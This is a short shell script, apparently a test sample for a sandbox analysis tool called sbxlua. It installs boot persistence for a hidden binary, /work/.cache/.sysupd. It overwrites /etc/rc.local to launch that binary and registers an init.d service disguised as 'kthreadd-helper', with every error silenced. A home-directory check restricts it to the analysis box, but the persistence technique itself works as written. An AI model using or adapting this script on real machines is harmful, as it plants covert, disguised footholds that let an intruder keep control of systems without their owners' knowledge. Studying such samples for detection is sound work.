#!/bin/sh
# SPDX-License-Identifier: MIT
# Persistence in the boot scripts: /etc/rc.local and an init.d script
# registered with update-rc.d.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
export PATH="$PATH:/usr/sbin:/sbin"
printf '#!/bin/sh -e\n/work/.cache/.sysupd &\nexit 0\n' > /etc/rc.local 2>/dev/null
chmod +x /etc/rc.local 2>/dev/null
cat > /etc/init.d/kthreadd-helper 2>/dev/null <<'INIT'
#!/bin/sh
### BEGIN INIT INFO
# Provides:          kthreadd-helper
# Required-Start:    $network
# Default-Start:     2 3 4 5
# Default-Stop:
### END INIT INFO
/work/.cache/.sysupd &
INIT
chmod 755 /etc/init.d/kthreadd-helper 2>/dev/null
update-rc.d kthreadd-helper defaults 2>/dev/null
exit 0
